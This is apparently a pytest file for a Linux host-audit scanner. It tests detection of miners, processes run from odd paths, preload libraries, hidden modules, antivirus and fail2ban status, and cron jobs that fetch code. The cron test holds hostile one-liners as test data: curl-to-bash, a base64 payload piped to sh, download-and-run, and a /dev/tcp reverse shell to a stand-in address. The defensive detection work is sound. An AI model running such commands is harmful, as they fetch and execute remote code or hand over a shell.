"""Facts of the area `watch` from sections written by hand, after the documented formats of each program."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.model.facts import JSON
from scanners.host.report import Report, Section, State
from scanners.host.watch.area import WATCH
from tests.scanners.host.recorded import facts_of, written


def fact(name: str, *absent: str, denied: tuple[str, ...] = (), **sections: str) -> JSON:
    return facts_of(written(*absent, denied=denied, **sections), WATCH).get(name, "unread")


def file(path: str, text: str) -> str:
    return f"==> {path} <== read\n{text}\n"


@pytest.mark.parametrize(
    ("target", "odd"),
    [
        ("/usr/sbin/sshd", False),
        ("/usr/sbin/sshd (deleted)", False),
        ("/opt/app/bin/app (deleted)", False),
        ("/tmp/.x/kinsing", True),
        ("/dev/shm/a", True),
        ("/var/tmp/a (deleted)", True),
        ("/usr/share/.hidden/x", True),
        ("/memfd:a (deleted)", True),
        ("/memfd:runc_cloned:/proc/self/exe (deleted)", False),
        ("/data/x (deleted)", True),
        ("/tmp/two\nlines", True),
        ("/tmp/:/proc/1/exe", True),
    ],
)
def test_programs_from_places_where_they_do_not_belong(target: str, odd: bool) -> None:
    text = f"/usr/lib/systemd/systemd:/proc/1/exe\n{target}:/proc/77/exe\n:/proc/2/exe\n"
    found = fact("host.process_odd_files", watch_programs=text)
    assert bool(found) is odd


def test_programs_that_could_not_be_looked_at_are_not_called_clean() -> None:
    assert fact("host.process_odd_files", watch_programs=":/proc/1/exe\n:/proc/7/exe\n") == "unread"
    assert fact("host.process_odd_files", watch_programs="") == "unread"


@pytest.mark.parametrize(
    ("lines", "names"),
    [
        ("name sshd\nname xmrig\n", ["xmrig"]),
        ("name kdevtmpfs\nname kthreadd\n", []),
        ("name kdevtmpfsi\n", ["kdevtmpfsi"]),
        ("name sh\npool /proc/812/cmdline\n", ["/proc/812/cmdline"]),
        ("!hidden\nname sh\n", "unread"),
    ],
)
def test_miners(lines: str, names: JSON) -> None:
    assert fact("host.process_odd_names", watch_processes=lines) == names


@pytest.mark.parametrize(
    ("text", "libraries"),
    [
        ("", []),
        ("\n# nothing\n", []),
        ("/usr/local/lib/a.so:/b.so /c.so # why\n", ["/usr/local/lib/a.so", "/b.so", "/c.so"]),
    ],
)
def test_libraries_loaded_before_all_others(text: str, libraries: JSON) -> None:
    assert fact("host.preload_libraries", watch_preload=text) == libraries
    assert fact("host.preload_libraries", "watch-preload") == []
    assert fact("host.preload_libraries", denied=("watch-preload",)) == "unread"


def test_modules() -> None:
    text = (
        "loaded ext4 -\nloaded nvidia (POE)\nloaded vboxdrv (O)\nkernel ext4\nkernel nvidia\nkernel netfs2\n"
    )
    assert fact("host.modules_loaded", watch_modules=text) == ["ext4", "nvidia", "vboxdrv"]
    assert fact("host.modules_hidden", watch_modules=text) == ["netfs2"]
    assert fact("host.modules_unsigned", watch_modules=text) == ["nvidia"]


def test_aide_counts_only_with_its_database() -> None:
    log = "1795340000.5 900:/var/log/aide/aide.log\n"
    database = "1790000000.5 900:/var/lib/aide/aide.db.gz\n"
    with_both = fact("host.integrity_checked", watch_tools="aide\n", watch_integrity=database + log)
    assert with_both == "2026-11-22T09:33:20Z"
    assert fact("host.integrity_checked", watch_tools="aide\n", watch_integrity=log) is None
    assert fact("host.integrity_checked", "watch-integrity", watch_tools="aide\n") is None
    assert fact("host.integrity_checked", watch_tools="", denied=("watch-integrity",)) is None
    assert fact("host.integrity_checked", watch_tools="aide\n", denied=("watch-integrity",)) == "unread"


def test_agents_and_whether_they_reach_their_server() -> None:
    names = "name wazuh-agentd\nname prometheus-node\nname zabbix_agentd\n"
    assert fact("host.monitor_agents", watch_processes=names) == ["node_exporter", "wazuh", "zabbix"]
    for state, found in (("status='connected'\n", []), ("status='pending'\n", ["wazuh"]), ("", "unread")):
        assert fact("host.monitor_disconnected", watch_processes=names, watch_wazuh=state) == found
    assert fact("host.monitor_disconnected", watch_processes="name zabbix_agentd\n") == []


_JAIL_CONF = file(
    "/etc/fail2ban/jail.conf", "[DEFAULT]\nenabled = false\n[sshd]\n[nginx-http-auth]\nfilter = x\n"
)


@pytest.mark.parametrize(
    ("files", "watched"),
    [
        (_JAIL_CONF, []),
        (_JAIL_CONF + file("/etc/fail2ban/jail.d/defaults-debian.conf", "[sshd]\nenabled = true\n"), ["ssh"]),
        (_JAIL_CONF + file("/etc/fail2ban/jail.local", "[nginx-http-auth]\nenabled = true\n"), ["web"]),
        (
            _JAIL_CONF
            + file("/etc/fail2ban/jail.d/a.conf", "[sshd]\nenabled = true\n")
            + file("/etc/fail2ban/jail.local", "[sshd]\nenabled = false\n"),
            [],
        ),
        # CentOS 6 has a jail of this name.
        (file("/etc/fail2ban/jail.conf", "[ssh-iptables]\nenabled = true\nfilter = sshd\n"), ["ssh"]),
    ],
)
def test_what_fail2ban_watches(files: str, watched: JSON) -> None:
    assert fact("host.guard_covers", watch_processes="name fail2ban-server\n", watch_jails=files) == watched


def test_crowdsec_counts_with_a_bouncer_only() -> None:
    alone = "name crowdsec\n"
    both = alone + "name crowdsec-firewa\n"
    rules = {"watch_crowdsec": "sshd.yaml\nnginx.yaml\n"}
    assert fact("host.guard_tools", watch_processes=alone) == []
    assert fact("host.guard_tools", watch_processes=both) == ["crowdsec"]
    assert fact("host.guard_covers", watch_processes=both, **rules) == ["ssh", "web"]
    assert fact("host.guard_covers", watch_processes=both, watch_crowdsec="!denied\n") == "unread"


@pytest.mark.parametrize(
    ("tools", "lines", "day"),
    [
        ("clamav\n", "clamav ClamAV-VDB:22 Nov 2026 07-12 +0000:2700\n", "2026-11-22T07:12:00Z"),
        ("clamav\n", "clamav ClamAV-VDB:02 Jan 2024 15-30 +0700:2700\n", "2024-01-02T08:30:00Z"),
        ("maldet\n", "maldet 20261120123\n", "2026-11-20T00:00:00Z"),
        ("clamav\n", "", None),
        ("eset\n", "", "unread"),
        ("clamav\n", "!denied\n", "unread"),
    ],
)
def test_the_day_of_signatures(tools: str, lines: str, day: JSON) -> None:
    assert fact("host.malware_signatures", watch_tools=tools, watch_signatures=lines) == day


def test_the_last_scan_and_what_it_found() -> None:
    text = (
        "1795340000.1 900:/var/log/clamav/clamscan.log\n1795330000.1 900:/var/log/rkhunter.log\n"
        "1795345000.1 900:/var/log/clamav/freshclam.log\n"
        "/var/log/clamav/clamscan.log:Infected files: 3\n/var/log/clamav/clamscan.log:Infected files: 0\n"
        "/var/log/rkhunter.log:[03:04:05] Possible rootkits: 2\n"
    )
    sections = {"watch_tools": "clamav\n", "watch_scans": text}
    assert fact("host.malware_scanned", **sections) == "2026-11-22T09:33:20Z"
    assert fact("host.malware_found", **sections) == 0
    assert fact("host.malware_scanned", watch_tools="clamav\n", watch_scans="") is None
    assert fact("host.malware_scanned", watch_tools="eset\n", watch_scans="") == "unread"
    chkrootkit = "1795340000.1 9:/var/log/chkrootkit/log.today\n/var/log/chkrootkit/log.today:x INFECTED\n"
    assert fact("host.malware_found", watch_tools="clamav\n", watch_scans=chkrootkit) == 1


_RHEL_JOBS = (
    "file root:/etc/crontab\nfile root:/etc/cron.daily/logrotate\nfile root:/etc/cron.d/0hourly\n"
    "cron root /etc/cron.d/0hourly\trun-parts /etc/cron.hourly\n"
    "same /etc/cron.daily/logrotate\n!done\n"
)


def jobs(text: str, packaged: str = "", timers: str = "!done\n") -> JSON:
    return fact("host.jobs_own", watch_jobs=text, watch_packaged=packaged, watch_timers=timers)


def test_what_a_package_brought_is_left_out_while_it_is_unchanged() -> None:
    assert jobs(_RHEL_JOBS) == []
    changed = jobs(_RHEL_JOBS.replace("same ", "changed "))
    assert changed == [{"kind": "cron", "owner": "root", "command": "/etc/cron.daily/logrotate"}]


def test_jobs_of_at_and_timers() -> None:
    text = "file budi:/var/spool/cron/atjobs/a1\nat - /var/spool/cron/atjobs/a1\t/home/budi/x.sh\n!done\n"
    timers = (
        "timer /etc/systemd/system/own.timer\ntimer /lib/systemd/system/logrotate.timer\n"
        "timer /usr/lib/systemd/system/logrotate.timer\n!done\n"
    )
    packaged = "timer /lib/systemd/system/logrotate.timer\n"
    assert jobs(text, packaged, timers) == [
        {"kind": "at", "owner": "budi", "command": "/home/budi/x.sh"},
        {"kind": "timer", "owner": "root", "command": "own.timer"},
    ]


def test_jobs_that_were_not_read_to_the_end_are_open() -> None:
    assert jobs(_RHEL_JOBS.removesuffix("!done\n")) == "unread"
    assert jobs(_RHEL_JOBS, packaged="!unknown\n") == "unread"


@pytest.mark.parametrize(
    ("command", "downloads", "plain"),
    [
        ("curl -s https://a.example/*** | bash", True, False),
        ("wget -qO- http://a.example/*** | sudo sh", True, True),
        ('bash -c "$(curl -fsSL https://a.example/***)"', True, False),
        ("echo aGk= | base64 -d | sh", True, False),
        ("wget https://a.example/*** -O /tmp/x && /tmp/x", True, False),
        ("bash -i >& /dev/tcp/203.0.113.9/443 0>&1", True, False),
        ("curl -fsS https://a.example/*** > /dev/null", False, False),
        ("curl http://localhost/***", False, False),
        ("curl http://127.0.0.1:8080/***", False, False),
        ("sftp -b batch budi@10.1.0.20", False, False),
        ("rsync -a -e ssh /srv/ budi@10.1.0.20:/srv/", False, False),
        ("rsync -a /srv/ rsync://10.1.0.20/***", False, True),
        ("cd /srv && ftp -n 10.1.0.20", False, True),
        ("/usr/bin/lftp -u *** ftp.example.go.id", False, True),
        ("lftp -u *** sftp://10.1.0.20", False, False),
        ("/usr/local/bin/backup-ftp.sh", False, False),
        ("php /var/www/ftp/index.php", False, False),
    ],
)
def test_what_fetches_code_and_what_transfers_plain(command: str, downloads: bool, plain: bool) -> None:
    sections = {
        "watch_jobs": f"cron root /etc/cron.d/x\t{command}\n!done\n",
        "watch_packaged": "",
        "watch_timers": "!done\n",
    }
    assert bool(fact("host.jobs_downloading", **sections)) is downloads
    assert bool(fact("host.transfer_plain", **sections)) is plain


_NAMES = [
    *("watch-processes", "watch-programs", "watch-tools", "watch-integrity", "watch-wazuh", "watch-jails"),
    *("watch-signatures", "watch-scans", "watch-crowdsec", "watch-preload", "watch-preload-set"),
    *("watch-modules", "watch-jobs", "watch-packaged", "watch-timers"),
]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.binary(max_size=80), min_size=len(_NAMES), max_size=len(_NAMES)),
    st.sampled_from([b"", b"name wazuh-agentd\nname crowdsec\nname fail2ban-server\n", b"\n!done"]),
)
def test_any_bytes_are_read_without_exception(parts: list[bytes], more: bytes) -> None:
    sections = {
        name: Section(name, State.RAN, more + part + more) for name, part in zip(_NAMES, parts, strict=True)
    }
    facts = facts_of(Report(sections), WATCH)
    unread = facts["host.unread"]
    assert isinstance(unread, list)
    assert len(facts) + len(unread) == len(WATCH.facts) + 1
